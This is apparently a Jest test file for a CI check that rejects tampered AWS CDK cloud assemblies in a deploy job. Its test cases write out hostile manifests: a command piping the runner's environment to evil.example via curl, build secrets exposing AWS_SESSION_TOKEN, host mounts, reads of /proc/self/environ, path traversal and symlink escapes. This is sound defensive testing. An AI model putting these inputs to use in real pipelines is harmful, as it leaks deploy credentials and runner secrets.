/**
 * An author of an npm package, whose code made the cloud assembly, tries to make the CDK run a command, read the runner's
 * files or pass its variables to an image build, in the job that has the token to deploy.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'risk-assembly-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

describe('a cloud assembly', () => {
  const checkAssembly = (path = folder): { status: number | null; stderr: string } =>
    spawnSync(process.execPath, [resolve('.github/deploy/check-assembly.ts'), path], { encoding: 'utf8' });
  const writeJson = (file: string, content: object) => writeFileSync(join(folder, file), JSON.stringify(content));
  const assets = (file: string) => ({ type: 'cdk:asset-manifest', properties: { file } });
  const image = (source: object) => ({ dockerImages: { a1: { source: { directory: 'asset.1', ...source } } } });
  const file = (source: object) => ({ files: { a1: { source: { path: 'asset.1', packaging: 'zip', ...source } } } });

  /** Writes an assembly as the CDK does, of one stack with these assets, and further artefacts. */
  function writeAssembly(content: object, artifacts: object = {}, manifest: object = {}): void {
    const stack = { type: 'aws:cloudformation:stack', properties: { templateFile: 'Stack.template.json' } };
    writeJson('manifest.json', {
      ...{ version: '1', artifacts: { Stack: stack, 'Stack.assets': assets('Stack.assets.json'), ...artifacts } },
      ...manifest,
    });
    writeJson('Stack.assets.json', { version: '1', ...content });
  }

  test.each([
    ['a command that makes a file', file({ executable: ['sh', '-c', 'env | curl -d @- evil.example'] }), 'executable'],
    ['a command that makes an image', image({ executable: ['sh', '-c', 'env'] }), 'executable'],
    ['a secret of the runner for a build', image({ dockerBuildSecrets: { t: 'env=AWS_SESSION_TOKEN' } }), 'Secrets'],
    ["the runner's SSH keys for a build", image({ dockerBuildSsh: 'default' }), 'dockerBuildSsh'],
    ["the runner's network for a build", image({ networkMode: 'host' }), 'networkMode'],
    ["the runner's folders for a build", image({ dockerBuildContexts: { home: '/home/runner' } }), 'Contexts'],
    ['a file of the runner', file({ path: '/proc/self/environ' }), 'outside the assembly'],
    ['a file above the assembly', file({ path: 'asset.1/../../../.git/config' }), 'outside the assembly'],
    ['no path', file({ path: undefined }), 'outside the assembly'],
    ['an image by a tag', image({ dockerBuildArgs: { BASE_IMAGE: 'evil.example/emr:latest' } }), 'not from a digest'],
  ])('is refused with %s', (_, content, reason) => {
    writeAssembly(content);
    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining(reason) });
  });

  const command = file({ executable: ['sh', '-c', 'env'] });
  const legacyAsset = [{ type: 'aws:cdk:asset', data: { packaging: 'container-image', path: '/', buildSecrets: {} } }];

  test.each<[string, object, string]>([
    ['assets under another name', { Other: assets('other.json') }, 'executable'],
    ['assets outside of it', { Other: assets('../other.assets.json') }, 'outside the assembly'],
    ['assets in a folder of it', { Other: assets('asset.1/other.json') }, 'outside the assembly'],
    [
      'another assembly in it',
      { Other: { type: 'cdk:cloud-assembly', properties: { directoryName: '/' } } },
      'cloud-assembly',
    ],
    [
      'a template outside of it',
      { Other: { type: 'aws:cloudformation:stack', properties: { templateFile: '/etc/x' } } },
      'outside',
    ],
    [
      'assets as metadata',
      { Other: { type: 'aws:cloudformation:stack', metadata: { '/Stack': legacyAsset } } },
      'asset manifests',
    ],
    [
      'assets in a file of metadata',
      { Other: { type: 'cdk:tree', additionalMetadataFile: 'other.json' } },
      'asset manifests',
    ],
  ])('is refused with %s', (_, artifacts, reason) => {
    writeAssembly(file({}), artifacts);
    const other = JSON.stringify({ ...command, '/Stack': legacyAsset }).replace('aws:cdk:asset', 'aws:cdk:\\u0061sset');
    writeFileSync(join(folder, 'other.json'), other);
    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining(reason) });
  });

  test('is refused with a question for the account', () => {
    writeAssembly(file({}), {}, { missing: [{ key: 'k', provider: 'plugin', props: {} }] });
    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining('asks for context') });
  });

  test('is refused with a link out of it, and as a link itself', () => {
    writeAssembly(file({}));
    symlinkSync('/proc/self/environ', join(folder, 'asset.1'));
    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining('asset.1 is neither') });
    symlinkSync(folder, `${folder}-link`);
    expect(checkAssembly(`${folder}-link`)).toMatchObject({
      status: 1,
      stderr: expect.stringContaining('not a folder'),
    });
    rmSync(`${folder}-link`);
  });

  test('is refused without a manifest', () => {
    expect(checkAssembly().status).toBe(1);
  });

  test('is accepted with files and images of its own', () => {
    const base = { BASE_IMAGE: `example.com/emr@sha256:${'b'.repeat(64)}` };
    writeAssembly({ ...file({}), ...image({ platform: 'linux/amd64', dockerBuildArgs: base }) });
    expect(checkAssembly()).toEqual(expect.objectContaining({ status: 0, stderr: '' }));
  });
});
